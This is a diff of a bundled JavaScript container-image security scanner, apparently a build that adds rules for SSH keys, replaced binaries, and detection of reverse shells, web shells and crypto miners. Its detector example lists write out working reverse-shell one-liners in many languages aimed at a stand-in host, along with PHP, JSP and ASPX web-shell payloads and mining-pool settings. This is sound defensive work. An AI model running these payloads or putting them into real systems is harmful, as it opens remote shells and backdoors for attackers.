@@ -3289,8 +3289,8 @@ var require_int2 = __commonJS({
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
     function intResolve(str, offset, radix, { intAsBigInt }) {
-      const sign2 = str[0];
-      if (sign2 === "-" || sign2 === "+")
+      const sign3 = str[0];
+      if (sign3 === "-" || sign3 === "+")
         offset += 1;
       str = str.substring(offset).replace(/_/g, "");
       if (intAsBigInt) {
@@ -3306,10 +3306,10 @@ var require_int2 = __commonJS({
             break;
         }
         const n2 = BigInt(str);
-        return sign2 === "-" ? BigInt(-1) * n2 : n2;
+        return sign3 === "-" ? BigInt(-1) * n2 : n2;
       }
       const n = parseInt(str, radix);
-      return sign2 === "-" ? -1 * n : n;
+      return sign3 === "-" ? -1 * n : n;
     }
     function intStringify(node2, radix, prefix2) {
       const { value } = node2;
@@ -3456,11 +3456,11 @@ var require_timestamp = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     function parseSexagesimal(str, asBigInt) {
-      const sign2 = str[0];
-      const parts = sign2 === "-" || sign2 === "+" ? str.substring(1) : str;
+      const sign3 = str[0];
+      const parts = sign3 === "-" || sign3 === "+" ? str.substring(1) : str;
       const num = (n) => asBigInt ? BigInt(n) : Number(n);
       const res = parts.replace(/_/g, "").split(":").reduce((res2, p) => res2 * num(60) + num(p), num(0));
-      return sign2 === "-" ? num(-1) * res : res;
+      return sign3 === "-" ? num(-1) * res : res;
     }
     function stringifySexagesimal(node2) {
       let { value } = node2;
@@ -3469,9 +3469,9 @@ var require_timestamp = __commonJS({
         num = (n) => BigInt(n);
       else if (isNaN(value) || !isFinite(value))
         return stringifyNumber.stringifyNumber(node2);
-      let sign2 = "";
+      let sign3 = "";
       if (value < 0) {
-        sign2 = "-";
+        sign3 = "-";
         value *= num(-1);
       }
       const _60 = num(60);
@@ -3486,7 +3486,7 @@ var require_timestamp = __commonJS({
           parts.unshift(value);
         }
       }
-      return sign2 + parts.map((n) => String(n).padStart(2, "0")).join(":").replace(/000000\d*$/, "");
+      return sign3 + parts.map((n) => String(n).padStart(2, "0")).join(":").replace(/000000\d*$/, "");
     }
     var intTime = {
       identify: (value) => typeof value === "bigint" || Number.isInteger(value),
@@ -15640,10 +15640,10 @@ var $ZodRegistry = class {
     this._idmap = /* @__PURE__ */ new Map();
   }
   add(schema2, ..._meta) {
-    const meta31 = _meta[0];
-    this._map.set(schema2, meta31);
-    if (meta31 && typeof meta31 === "object" && "id" in meta31) {
-      this._idmap.set(meta31.id, schema2);
+    const meta42 = _meta[0];
+    this._map.set(schema2, meta42);
+    if (meta42 && typeof meta42 === "object" && "id" in meta42) {
+      this._idmap.set(meta42.id, schema2);
     }
     return this;
   }
@@ -15653,9 +15653,9 @@ var $ZodRegistry = class {
     return this;
   }
   remove(schema2) {
-    const meta31 = this._map.get(schema2);
-    if (meta31 && typeof meta31 === "object" && "id" in meta31) {
-      this._idmap.delete(meta31.id);
+    const meta42 = this._map.get(schema2);
+    if (meta42 && typeof meta42 === "object" && "id" in meta42) {
+      this._idmap.delete(meta42.id);
     }
     this._map.delete(schema2);
     return this;
@@ -16276,9 +16276,9 @@ function processSchema(schema2, ctx, _params = { path: [], schemaPath: [] }) {
       ctx.seen.get(parent).isParent = true;
     }
   }
-  const meta31 = ctx.metadataRegistry.get(schema2);
-  if (meta31)
-    assignProps(result.schema, meta31);
+  const meta42 = ctx.metadataRegistry.get(schema2);
+  if (meta42)
+    assignProps(result.schema, meta42);
   if (ctx.io === "input" && isTransforming(schema2)) {
     delete result.schema.examples;
     delete result.schema.default;
@@ -17559,8 +17559,8 @@ var ZodType = /* @__PURE__ */ $constructor("ZodType", (inst, def) => {
   brand() {
     return this;
   },
-  register(reg, meta31) {
-    reg.add(this, meta31);
+  register(reg, meta42) {
+    reg.add(this, meta42);
     return this;
   },
   refine(check2, params) {
@@ -21433,10 +21433,10 @@ function matchesReference(pattern, image) {
 }
 
 // src/rules/placed.ts
-function placed(meta31, { title = meta31.title, severity = meta31.severity, confidence = meta31.confidence, related = [], ...own2 }) {
+function placed(meta42, { title = meta42.title, severity = meta42.severity, confidence = meta42.confidence, related = [], ...own2 }) {
   const { identity, ...rest } = own2;
   const finding = {
-    ruleId: meta31.id,
+    ruleId: meta42.id,
     title,
     severity,
     confidence,
@@ -21447,13 +21447,13 @@ function placed(meta31, { title = meta31.title, severity = meta31.severity, conf
     ...rest
   };
   return {
-    places: [{ ruleId: meta31.id, location: rest.location, origin: rest.origin, dockerfile: rest.dockerfile, identity }],
+    places: [{ ruleId: meta42.id, location: rest.location, origin: rest.origin, dockerfile: rest.dockerfile, identity }],
     seenFrom: () => finding,
     hashOf: null
   };
 }
-var onStep = (meta31, step2, own2) => placed(meta31, { ...own2, location: step2.location, dockerfile: step2.lines, origin: step2.owner });
-var onCommand = (meta31, step2, { position, end: end2 }, own2) => placed(meta31, { ...own2, location: step2.location, dockerfile: step2.linesAt(position, end2), origin: step2.owner });
+var onStep = (meta42, step2, own2) => placed(meta42, { ...own2, location: step2.location, dockerfile: step2.lines, origin: step2.owner });
+var onCommand = (meta42, step2, { position, end: end2 }, own2) => placed(meta42, { ...own2, location: step2.location, dockerfile: step2.linesAt(position, end2), origin: step2.owner });
 
 // src/rules/rule.ts
 var CIS = "https://www.cisecurity.org/benchmark/docker";
@@ -21477,6 +21477,20 @@ var REFERENCES = {
     url: "https://docs.docker.com/build/building/best-practices/"
   },
   addReference: { name: "Dockerfile reference, ADD", url: "https://docs.docker.com/reference/dockerfile/#add" },
+  attackShell: { name: "MITRE ATT&CK T1059.004", url: "https://attack.mitre.org/techniques/T1059/004/" },
+  attackProtocol: { name: "MITRE ATT&CK T1095", url: "https://attack.mitre.org/techniques/T1095/" },
+  attackWebShell: { name: "MITRE ATT&CK T1505.003", url: "https://attack.mitre.org/techniques/T1505/003/" },
+  attackHijacking: { name: "MITRE ATT&CK T1496", url: "https://attack.mitre.org/techniques/T1496/" },
+  attackPacking: { name: "MITRE ATT&CK T1027.002", url: "https://attack.mitre.org/techniques/T1027/002/" },
+  attackPreload: { name: "MITRE ATT&CK T1574.006", url: "https://attack.mitre.org/techniques/T1574/006/" },
+  attackAuthorizedKeys: { name: "MITRE ATT&CK T1098.004", url: "https://attack.mitre.org/techniques/T1098/004/" },
+  attackAccount: { name: "MITRE ATT&CK T1136.001", url: "https://attack.mitre.org/techniques/T1136/001/" },
+  attackCron: { name: "MITRE ATT&CK T1053.003", url: "https://attack.mitre.org/techniques/T1053/003/" },
+  attackBoot: { name: "MITRE ATT&CK T1037", url: "https://attack.mitre.org/techniques/T1037/" },
+  attackTransfer: { name: "MITRE ATT&CK T1105", url: "https://attack.mitre.org/techniques/T1105/" },
+  attackHidden: { name: "MITRE ATT&CK T1564.001", url: "https://attack.mitre.org/techniques/T1564/001/" },
+  attackMasquerade: { name: "MITRE ATT&CK T1036.005", url: "https://attack.mitre.org/techniques/T1036/005/" },
+  attackBinary: { name: "MITRE ATT&CK T1554", url: "https://attack.mitre.org/techniques/T1554/" },
   attackSetuid: { name: "MITRE ATT&CK T1548.001", url: "https://attack.mitre.org/techniques/T1548/001/" },
   attackSudo: { name: "MITRE ATT&CK T1548.003", url: "https://attack.mitre.org/techniques/T1548/003/" },
   attackRemote: { name: "MITRE ATT&CK T1021.004", url: "https://attack.mitre.org/techniques/T1021/004/" },
@@ -32328,8 +32342,912 @@ var updateWithoutInstall = {
   }
 };
 
-// src/rules/image/build-tools-left.ts
+// src/rules/compromise/file-finding.ts
+var DOCUMENTATION = /^\/usr\/(?:local\/)?share\/(?:doc|man|info|vim|nano|highlight|bash-completion|licenses)\/|\/(?:docs?|man)\/|\.(?:md|mdx|rst|adoc|markdown|1|5|8|1\.gz|8\.gz|yar|yara|po|mo|map|d\.ts|ipynb)$|\/(?:README|CHANGE|NEWS|HISTORY)[^/]*$/i;
+var isDocumentation = (path26) => DOCUMENTATION.test(path26);
+function onVersion(meta42, { origin }, { path: path26, layer }, { line: line2 = null, inside = null, ...own2 }) {
+  const from = origin.layers[layer];
+  return placed(meta42, {
+    ...own2,
+    location: { kind: "layer", layer, path: path26, ...inside === null ? {} : { inside }, line: line2, offset: null },
+    dockerfile: from?.lines ?? null,
+    origin: from?.owner ?? "unknown",
+    identity: [...own2.identity, path26]
+  });
+}
+function* presentFiles({ filesystem }) {
+  for (const version2 of filesystem.present()) if (version2.entry.type === "file") yield version2;
+}
+function collectedFile(evidence, path26) {
+  const version2 = evidence.filesystem.find(path26);
+  const text5 = evidence.collected(path26);
+  return version2 === null || text5 === null ? null : { version: version2, text: text5 };
+}
+
+// src/rules/compromise/authorized-keys.ts
 var meta21 = {
+  id: "authorized-keys",
+  title: "A key that lets somebody log in",
+  description: "The image holds authorized_keys: whoever has the other half of a key logs in by SSH.",
+  remedy: "Take it out; mount the file when a container starts that is to be logged in to.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackAuthorizedKeys],
+  enabled: true
+};
+var KEYS = /\/\.ssh\/authorized_keys2?$|^\/etc\/(?:ssh|dropbear)\/authorized_keys(?:\/[^/]+|\.d\/[^/]+)?$/;
+var KEY = /(?:^|\s)(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3}|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com) AAAA/;
+var authorizedKeys = {
+  meta: meta21,
+  *check(evidence) {
+    for (const version2 of presentFiles(evidence)) {
+      if (!KEYS.test(version2.path)) continue;
+      const keys = (evidence.collected(version2.path) ?? "").split("\n").filter((line2) => !/^\s*#/.test(line2) && KEY.test(line2));
+      if (keys.length === 0) continue;
+      const user = /^\/(?:home\/)?([^/]+)\/\.ssh\//.exec(version2.path)?.[1] ?? "an account";
+      yield onVersion(meta21, evidence, version2, {
+        message: `${version2.path} lets ${keys.length === 1 ? "the owner of one key" : `the owners of ${keys.length} keys`} log in as ${user}, in every container of this image.`,
+        remedy: "Take it out of the image. A container that is to be logged in to gets the file when it starts, by a mount.",
+        identity: ["authorized_keys"]
+      });
+    }
+  }
+};
+
+// src/rules/compromise/binary-replaced.ts
+var meta22 = {
+  id: "binary-replaced",
+  title: "A program of the system is another one now",
+  description: "COPY or ADD writes a program over one that a lower layer has in a directory of the system.",
+  remedy: "Put your own programs into /usr/local/bin or a directory of their own.",
+  severity: "medium",
+  confidence: "medium",
+  kind: "rule",
+  references: [REFERENCES.attackBinary],
+  enabled: true,
+  strict: "high"
+};
+var SYSTEM = /^\/(?:usr\/)?(?:s?bin|lib\w{0,4})\/(?:[^/]+\/){0,2}[^/]+$/;
+var binaryReplaced = {
+  meta: meta22,
+  *check(evidence) {
+    const { filesystem, layers, origin } = evidence;
+    const kinds = layers.map(({ programs }) => new Map(programs));
+    for (const [layer, versions] of filesystem.versions.entries())
+      for (const { path: path26, entry, successor, index, ending: ending2 } of versions) {
+        if (successor === null || ending2?.state !== "overwritten" || successor.layer === layer) continue;
+        if (entry.type !== "file" || successor.entry.type !== "file" || !SYSTEM.test(path26)) continue;
+        if (kinds[layer]?.get(index) === void 0 || kinds[successor.layer]?.get(successor.index) === void 0)
+          continue;
+        const from = origin.layers[successor.layer];
+        if (from?.owner === "base" || !/^(?:COPY|ADD)$/.test(from?.instruction?.keyword ?? "")) continue;
+        yield onVersion(meta22, evidence, successor, {
+          message: `${path26} came with layer ${layer}; ${from?.instruction?.keyword} in layer ${successor.layer} put another program in its place. Whoever calls it by its name runs that.`,
+          remedy: `Put it into /usr/local/bin under its own name. If it must be there, install it as a package, so that its checksum is on record.`,
+          identity: ["replaced"]
+        });
+      }
+  }
+};
+
+// src/secrets/indicators.ts
+var sign = (rule, name2, { how, literals, pattern, window = 512, check: check2, examples, quiet }) => ({
+  id: `${rule}:${name2}`,
+  issuer: "",
+  title: how,
+  opens: "",
+  revoke: "",
+  docs: "https://attack.mitre.org/",
+  strength: "likely",
+  isIndicator: true,
+  literals: literals.map((literal4) => typeof literal4 === "string" ? { text: literal4 } : literal4),
+  pattern,
+  window,
+  examples,
+  ...quiet === void 0 ? {} : { quiet },
+  ...check2 === void 0 ? {} : { check: check2 }
+});
+var anyCase = (text5) => ({ text: text5, ignoreCase: true });
+var lineOf = ({ before, value, after: after2 }) => `${before.slice(before.lastIndexOf("\n") + 1)}${value}${/^[^\n]{0,300}/.exec(after2)?.[0] ?? ""}`;
+var REVERSE_SHELLS = [
+  sign("reverse-shell", "bash", {
+    how: "bash hands a shell to a connection (/dev/tcp)",
+    literals: ["/dev/tcp/", "/dev/udp/"],
+    pattern: /\/dev\/(?:tcp|udp)\/[^\s/;'"]{1,80}\/[^\s;'"&|)]{1,12}/y,
+    examples: [
+      "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+      '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
+      "exec 5<>/dev/tcp/203.0.113.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
+      "0<&196;exec 196<>/dev/tcp/evil.acme/443; sh <&196 >&196 2>&196",
+      "sh -i >& /dev/udp/203.0.113.9/53 0>&1"
+    ],
+    quiet: [
+      "until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done",
+      'exec 6<>/dev/tcp/localhost/8080; echo -e "GET /health HTTP/1.0\\r\\n" >&6; cat <&6',
+      'timeout 1 bash -c "</dev/tcp/$host/$port"'
+    ],
+    // A check of a port opens one too: only a shell that reads from it, or runs what it reads, is one.
+    check: (found) => /\b(?:ba|z|k|da|a)?sh\s+-i\b|0>&1|0<&1|\b(?:ba|z|k|da|a)?sh\s{1,3}<&\d|while\s+read[^\n]{0,60}do\s+(?:\$|eval|sh|bash)/.test(
+      lineOf(found)
+    ) ? {} : null
+  }),
+  sign("reverse-shell", "netcat", {
+    how: "netcat hands a shell to a connection",
+    literals: [
+      "e /bin/sh",
+      "e /bin/bash",
+      "c /bin/sh",
+      "c /bin/bash",
+      " -e sh",
+      " -e bash",
+      " -c bash",
+      "--sh-exec",
+      "e /bin/ash",
+      "--exec"
+    ],
+    pattern: /(?<=(?<![\w-])(?:nc|ncat|netcat)(?:\.traditional|\.openbsd)?\s[^\n;|&]{0,70})(?:(?<=-[a-z]{0,6})[ec]|\s-[a-z]{0,6}[ec]|--(?:sh-)?exec)\s{1,3}["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a|k)?sh\b/y,
+    examples: [
+      "nc 203.0.113.9 4444 -e /bin/sh",
+      "nc -lvpe /bin/bash 203.0.113.9",
+      "ncat --ssl evil.acme 443 -c bash",
+      "ncat -l 4444 --sh-exec /bin/sh",
+      "nc.traditional -e /bin/bash 203.0.113.9 1"
+    ],
+    quiet: ["nc -z db 5432 || exit 1", "docker exec -c bash", "su - app -c /bin/sh", "func -e /bin/sh"]
+  }),
+  sign("reverse-shell", "pipe", {
+    how: "a named pipe ties a shell to a connection",
+    literals: ["mkfifo ", "mknod "],
+    pattern: /mk(?:fifo|nod)\s[^\n]{1,200}?\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b[^\n|]{0,80}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/y,
+    examples: [
+      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
+      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | sh | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s"
+    ],
+    quiet: ["mkfifo /run/log.pipe && tail -f /run/log.pipe | sh /filter.sh"]
+  }),
+  sign("reverse-shell", "python", {
+    how: "Python ties a shell to a socket",
+    literals: [".fileno()"],
+    pattern: /(?<=dup2\(\s{0,3}[\w.]{1,40})\.fileno\(\)\s{0,3},\s{0,3}0\s{0,3}\)[\s\S]{0,400}?(?:pty\.spawn|subprocess\.(?:call|Popen|run)|os\.(?:system|exec\w{1,3}))\(\s{0,3}\[?\s{0,3}["'](?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/y,
+    window: 800,
+    examples: [
+      'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])',
+      "s.connect((h, 1))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nimport pty\npty.spawn('/bin/bash')\n"
+    ],
+    quiet: ["os.dup2(devnull.fileno(), 0)\nos.dup2(log.fileno(), 1)\n"]
+  }),
+  sign("reverse-shell", "perl", {
+    how: "Perl ties a shell to a socket",
+    literals: ["open(STDIN,"],
+    pattern: /open\(STDIN,\s{0,3}["'][<>]{1,2}&\w{1,20}["']\)[\s\S]{0,200}?exec\s{0,3}(?:\{|\()?\s{0,3}["']\/bin\/(?:ba)?sh/y,
+    examples: [
+      'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
+    ],
+    quiet: ['open(STDIN,"</dev/null");']
+  }),
+  sign("reverse-shell", "php", {
+    how: "PHP hands a shell to a socket",
+    literals: ["fsockopen("],
+    pattern: /fsockopen\([^)\n]{3,100}\);?[\s\S]{0,300}?(?:exec|shell_exec|system|passthru|popen|proc_open)\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh\b/y,
+    window: 800,
+    examples: [`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`],
+    quiet: ['$fp = fsockopen($host, 80);\nfwrite($fp, "GET / HTTP/1.0");\n']
+  }),
+  sign("reverse-shell", "socat", {
+    how: "socat ties a shell to a connection",
+    literals: [anyCase("exec:")],
+    pattern: /(?<=socat\s[^\n]{0,85})exec:["'\\]{0,2}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/iy,
+    examples: [
+      "socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty,stderr",
+      "socat exec:'bash -li',pty,stderr,setsid openssl-connect:203.0.113.9:443"
+    ],
+    quiet: ["socat -u FILE:/x EXEC:/usr/bin/tool", "socat UNIX-LISTEN:/s EXEC:bash-helper.py"],
+    check: (found) => /\b(?:tcp|udp|openssl|sctp)[\w-]{0,12}:/i.test(lineOf(found)) ? {} : null
+  }),
+  sign("reverse-shell", "powershell", {
+    how: "PowerShell runs what a connection sends",
+    literals: [anyCase("Net.Sockets.TCPClient(")],
+    pattern: /Net\.Sockets\.TCPClient\([^)\n]{3,80}\)[\s\S]{0,600}?(?:\biex\b|Invoke-Expression)/iy,
+    window: 1024,
+    examples: [
+      "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$r=(iex $d 2>&1 | Out-String)}"
+    ],
+    quiet: ["$c = New-Object System.Net.Sockets.TCPClient('db', 5432); $c.Close()"]
+  }),
+  sign("reverse-shell", "ruby", {
+    how: "Ruby ties a shell to a socket",
+    literals: ["TCPSocket."],
+    pattern: /TCPSocket\.(?:new|open)\([^)\n]{3,80}\)[\s\S]{0,200}?exec\s{0,3}\(?(?:sprintf\(?\s?)?["']\/bin\/(?:ba)?sh/y,
+    examples: [
+      `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`
+    ],
+    quiet: ["s = TCPSocket.new('db', 5432)\nexec 'bundle'"]
+  }),
+  sign("reverse-shell", "node", {
+    how: "Node.js ties a shell to a socket",
+    literals: [
+      'spawn("/bin/sh"',
+      "spawn('/bin/sh'",
+      'spawn("/bin/bash"',
+      "spawn('/bin/bash'",
+      'spawn("sh"',
+      "spawn('sh'"
+    ],
+    pattern: /spawn\(["'](?:\/bin\/)?(?:ba)?sh["'][\s\S]{0,300}?(?:\.connect\(|net\.Socket)[\s\S]{0,200}?\.pipe\(\w{1,20}\.std/y,
+    window: 800,
+    examples: [
+      'var cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.9",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});'
+    ],
+    quiet: ['const sh = spawn("sh", ["-c", command]); sh.stdout.pipe(process.stdout)']
+  })
+];
+var INPUT2 = String.raw`\$_(?:GET|POST|REQUEST|COOKIE)\s?\[`;
+var WEB_SHELLS = [
+  sign("web-shell", "php", {
+    how: "PHP runs what a request sends",
+    literals: ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"],
+    pattern: new RegExp(
+      String.raw`(?<=(?<![\w>$:])(?:eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|call_user_func)\s{0,3}\(\s{0,3}(?:@?(?:base64_decode|gzinflate|gzuncompress|str_rot13|stripslashes|urldecode|trim)\s{0,2}\(\s{0,3}){0,3}@?)${INPUT2}`,
+      "y"
+    ),
+    examples: [
+      '<?php system($_GET["cmd"]); ?>',
+      '<?php @eval($_POST["x"]);',
+      "<?php eval(base64_decode($_REQUEST['q']));",
+      "<?php passthru(@$_COOKIE[0]);"
+    ],
+    quiet: [
+      '<?php echo htmlspecialchars($_GET["q"]);',
+      '<?php $db->exec($_POST["x"]);',
+      "<?php $filesystem = filesystem($_GET['x']);",
+      '<?php Loader::system($_GET["x"]);'
+    ]
+  }),
+  sign("web-shell", "php-call", {
+    how: "PHP calls the function that a request names",
+    literals: ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"],
+    pattern: /\$_(?:GET|POST|REQUEST|COOKIE)\s?\[[^\]\n]{1,30}\]\s{0,2}\(\s{0,2}@?\$_(?:GET|POST|REQUEST|COOKIE)/y,
+    examples: ['<?php $_GET["a"]($_POST["b"]); ?>', "<?php @$_REQUEST[0]($_REQUEST[1]);"],
+    quiet: ['<?php if ($_GET["a"] == ($_POST["b"])) {}']
+  }),
+  sign("web-shell", "php-packed", {
+    how: "PHP runs code that it unpacks several times",
+    literals: ["eval(gz", "eval(str_rot13(", "eval(base64_decode(", "@eval(", "eval (gz"],
+    pattern: /eval\s?\(\s{0,3}(?:gzinflate|gzuncompress|str_rot13)\s{0,2}\(\s{0,3}(?:(?:gzinflate|gzuncompress|str_rot13|strrev)\s{0,2}\(\s{0,3}){0,3}base64_decode\s{0,2}\(\s{0,3}["']/y,
+    examples: [
+      "<?php eval(gzinflate(base64_decode('{b64:60}')));",
+      "<?php eval(str_rot13(gzinflate(base64_decode('{b64:60}'))));"
+    ],
+    quiet: ["<?php $x = gzinflate(base64_decode('{b64:60}'));"]
+  }),
+  sign("web-shell", "jsp", {
+    how: "JSP runs what a request sends",
+    literals: ["request.getParameter("],
+    pattern: /(?<=(?:\.exec\(|ProcessBuilder\(|\.eval\()[^;\n]{0,60})request\.getParameter\(/y,
+    examples: [
+      '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+      '<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>'
+    ],
+    quiet: ['<% String name = request.getParameter("name"); %>']
+  }),
+  sign("web-shell", "aspx", {
+    how: "ASP.NET runs what a request sends",
+    literals: [
+      anyCase("Request.Item["),
+      anyCase("Request.Form["),
+      anyCase("Request.QueryString["),
+      anyCase('Request["')
+    ],
+    pattern: /(?<=(?:\beval\s?\(|Process\.Start\(|\bexecute\s?\(?)[^;\n]{0,60})Request(?:\.(?:Item|Form|QueryString))?\[/iy,
+    examples: [
+      '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
+      'Process.Start("cmd.exe", "/c " + Request["c"])'
+    ],
+    quiet: ['var name = Request.Form["name"];']
+  }),
+  sign("web-shell", "python", {
+    how: "Python runs what a request sends",
+    literals: ["request.args", "request.form", "request.values", "request.GET", "request.POST"],
+    pattern: /(?<=(?<![\w.])(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|eval|exec)\(\s{0,3})(?:flask\.)?request\.(?:args|form|values|GET|POST)\b/y,
+    examples: ["return os.popen(request.args.get('cmd')).read()", "exec(request.form['code'])"],
+    quiet: ["name = request.args.get('name')", "db.exec(request.args['x'])"]
+  })
+];
+var POOLS = [
+  "pool.minexmr.com",
+  "xmrpool.eu",
+  "supportxmr.com",
+  "nanopool.org",
+  "2miners.com",
+  "moneroocean.stream",
+  "hashvault.pro",
+  "c3pool.",
+  "minergate.com",
+  "unmineable.com",
+  "herominers.com",
+  "monerohash.com",
+  "kryptex.network"
+];
+var MINERS = [
+  sign("crypto-miner", "stratum", {
+    how: "it talks to a mining pool (stratum)",
+    literals: ["stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+tcp://", "stratum+udp://"],
+    pattern: /stratum2?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
+    examples: ["xmrig -o stratum+tcp://pool.acme.io:3333 -u x", '"url": "stratum+ssl://203.0.113.9:443"'],
+    quiet: ["stratum+tcp://%s:%d", "stratum+tcp://example.com:3333", "supports stratum+tcp:// and stratum+ssl://"]
+  }),
+  sign("crypto-miner", "pool", {
+    how: "it names a mining pool",
+    literals: POOLS,
+    pattern: /(?:pool\.minexmr\.com|xmrpool\.eu|supportxmr\.com|nanopool\.org|2miners\.com|moneroocean\.stream|hashvault\.pro|c3pool\.(?:com|org)|minergate\.com|unmineable\.com|herominers\.com|monerohash\.com|kryptex\.network):\d{2,5}(?!\d)/y,
+    examples: ["-o xmr-eu1.nanopool.org:14444", "gulf.moneroocean.stream:10128"],
+    quiet: ["https://nanopool.org/help", "0.0.0.0 xmrpool.eu"]
+  }),
+  sign("crypto-miner", "xmrig", {
+    how: "it is XMRig, or set up for it",
+    literals: ['"donate-level"', "--donate-level", "XMRig/", "XMRig %"],
+    pattern: /"donate-level"\s{0,3}:\s{0,3}\d{1,2}\b|--donate-level[\s=]{1,3}\d{1,2}\b|XMRig\/[%\d]|XMRig %/y,
+    examples: [
+      '{"autosave": true, "donate-level": 1, "pools": []}',
+      "./kworker --donate-level 1 -k",
+      "ABOUT XMRig/6.21.0 gcc"
+    ],
+    quiet: ["the donate-level of a miner", "--donate-level=N"]
+  })
+];
+var INDICATORS = [
+  ...REVERSE_SHELLS,
+  ...WEB_SHELLS,
+  ...MINERS,
+  sign("packed-executable", "upx", {
+    how: "it is packed with UPX",
+    literals: ["UPX!"],
+    pattern: /UPX!(?=[\s\S]{8})/y,
+    examples: ["\x7FELF\0\0\0\0UPX!\r\b\0\0\0\0\0\0\0\0"],
+    quiet: ["packed with UPX! See the manual"],
+    check: ({ isText: isText2 }) => isText2 ? null : {}
+  })
+];
+var ruleOfIndicator = (detector) => detector.split(":")[0] ?? "";
+var indicatorOf = (id) => INDICATORS.find((each2) => each2.id === id) ?? null;
+function indicatorsIn(text5) {
+  const folded2 = text5.toLowerCase();
+  return INDICATORS.flatMap(
+    (detector) => detector.literals.flatMap((literal4) => {
+      const { text: sought, ignoreCase = false } = typeof literal4 === "string" ? { text: literal4 } : literal4;
+      const [within2, needle] = ignoreCase ? [folded2, sought.toLowerCase()] : [text5, sought];
+      for (let at3 = within2.indexOf(needle); at3 !== -1; at3 = within2.indexOf(needle, at3 + 1)) {
+        const { pattern } = detector;
+        pattern.lastIndex = at3;
+        const match2 = pattern.exec(text5);
+        if (match2 === null) continue;
+        const found = {
+          value: match2[0],
+          groups: match2.groups ?? {},
+          before: text5.slice(Math.max(0, at3 - 96), at3),
+          after: text5.slice(at3 + match2[0].length, at3 + match2[0].length + 512),
+          path: "",
+          isText: true
+        };
+        if (detector.check === void 0 || detector.check(found) !== null) return [{ detector, at: at3 }];
+      }
+      return [];
+    })
+  );
+}
+
+// src/rules/compromise/signs.ts
+var RUNS = /^(?:RUN|CMD|ENTRYPOINT|HEALTHCHECK|ONBUILD|SHELL|ENV)$/;
+function* inSteps(meta42, { steps }, remedy) {
+  for (const step2 of steps) {
+    if (step2.of !== "image" || !RUNS.test(step2.keyword ?? "")) continue;
+    const [first2] = indicatorsIn(step2.text).filter(({ detector }) => ruleOfIndicator(detector.id) === meta42.id);
+    if (first2 === void 0) continue;
+    yield onStep(meta42, step2, {
+      message: `${step2.keyword}: ${first2.detector.title}.`,
+      remedy,
+      identity: [first2.detector.id, step2.keyword ?? ""]
+    });
+  }
+}
+function* inFiles(meta42, evidence, { isMeant: isMeant2, remedy, hiddenSeverity = "medium" }) {
+  const { built } = evidence;
+  if (built === null) return;
+  for (const [layer, { indicators }] of evidence.layers.entries()) {
+    const byEntry = /* @__PURE__ */ new Map();
+    for (const each2 of indicators)
+      if (ruleOfIndicator(each2.detector) === meta42.id)
+        byEntry.set(each2.entry, [...byEntry.get(each2.entry) ?? [], each2]);
+    for (const [entry, found] of byEntry) {
+      const version2 = built.filesystem.versionOf(layer, entry);
+      const inner = found.filter(({ inside }) => !isDocumentation(inside === null ? version2.path : `/${inside}`));
+      const [first2] = inner;
+      if (first2 === void 0 || isDocumentation(version2.path) || !isMeant2(version2)) continue;
+      if (built.isVouched(layer, version2.path)) continue;
+      const says = [...new Set(inner.map(({ detector }) => indicatorOf(detector)?.title ?? detector))];
+      const { ending: ending2 } = version2;
+      yield onVersion(meta42, evidence, version2, {
+        message: `${version2.path}${first2.inside === null ? "" : `!/${first2.inside}`}${first2.line === null ? "" : `, line ${first2.line}`}: ${says.join("; ")}.${ending2 === null ? "" : ` Layer ${ending2.layer} hides it; the bytes stay in layer ${layer}.`}`,
+        remedy,
